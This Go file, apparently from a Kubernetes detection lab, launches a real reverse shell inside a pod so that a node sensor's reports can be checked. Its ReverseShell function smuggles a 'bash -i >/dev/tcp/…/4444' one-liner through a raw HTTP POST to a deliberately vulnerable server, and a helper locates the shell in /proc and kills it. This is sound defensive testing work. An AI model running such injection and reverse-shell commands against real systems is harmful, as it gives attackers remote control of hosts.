package lab

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// port is where the attacker's listener waits.
const port = 4444

// Attack is a reverse shell that runs in a pod.
type Attack struct {
	Pod       string
	PID       int // as the container counts
	ParentPID int
	NodePID   int // as the node counts, which is what a sensor on the node sees
	Parent    []string
	Args      []string
	Path      string
	SHA256    string
	Remote    string // address of the listener
	At        time.Time
}

// Listener starts the attacker's end in a pod of its own and returns its address.
func (l *Lab) Listener(ctx context.Context) (string, error) {
	pod, err := l.Pod(ctx, "listener", listener)
	if err != nil {
		return "", err
	}
	return pod.Status.PodIP, nil
}

// ReverseShell makes the pod's server start a shell that is connected to the
// listener, as an attacker would: through the hole in the service.
func (l *Lab) ReverseShell(ctx context.Context, pod, remote string) (Attack, error) {
	command := fmt.Sprintf("exec bash -c 'exec bash -i >/dev/tcp/%s/%d 2>&1 <&1'", remote, port)
	if err := l.Smuggle(ctx, pod, command); err != nil {
		return Attack{}, err
	}
	var found string
	err := l.wait(ctx, "the reverse shell", func() (bool, error) {
		var err error
		found, err = l.Run(ctx, pod, "bash", "-c", findShell)
		return strings.TrimSpace(found) != "", err
	})
	if err != nil {
		return Attack{}, err
	}
	return l.describe(ctx, pod, remote, strings.Fields(found))
}

// Smuggle makes the pod's server run a shell command, which goes on by itself.
func (l *Lab) Smuggle(ctx context.Context, pod, command string) error {
	_, err := l.Run(ctx, pod, "bash", "-c", post, "post", command)
	return err
}

// post sends its argument to the server as a request.
const post = `exec 3<>/dev/tcp/127.0.0.1/8080
printf 'POST /start HTTP/1.0\r\nContent-Length: %s\r\n\r\n%s' "${#1}" "$1" >&3
cat <&3`

// findShell prints pid and parent of the process whose arguments are "bash -i".
const findShell = `for p in /proc/[0-9]*; do
  if [ "$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null)" = "bash -i " ]; then
    read -r _ _ _ ppid _ <"$p/stat"; echo "${p#/proc/} $ppid"
  fi
done`

// describe gathers what a sensor would report of the shell.
func (l *Lab) describe(ctx context.Context, pod, remote string, pids []string) (Attack, error) {
	a := Attack{Pod: pod, Args: []string{"bash", "-i"}, Parent: Server(), Remote: remote, At: time.Now().UTC()}
	a.PID, _ = strconv.Atoi(pids[0])
	a.ParentPID, _ = strconv.Atoi(pids[1])
	link := fmt.Sprintf("/proc/%d/exe", a.PID)
	path, err := l.Run(ctx, pod, "readlink", link)
	if err != nil {
		return Attack{}, err
	}
	sum, err := l.Run(ctx, pod, "sha256sum", link)
	if err != nil {
		return Attack{}, err
	}
	a.Path, a.SHA256 = strings.TrimSpace(path), strings.Fields(sum)[0]
	a.NodePID, err = l.nodePID(ctx, pod, a.PID)
	return a, err
}

// Kill ends the attack's shell.
func (l *Lab) Kill(ctx context.Context, a Attack) error {
	if _, err := l.Run(ctx, a.Pod, "kill", "-9", strconv.Itoa(a.PID)); err != nil {
		return err
	}
	return l.wait(ctx, "the end of the reverse shell", func() (bool, error) {
		found, err := l.Run(ctx, a.Pod, "bash", "-c", findShell)
		return strings.TrimSpace(found) == "", err
	})
}
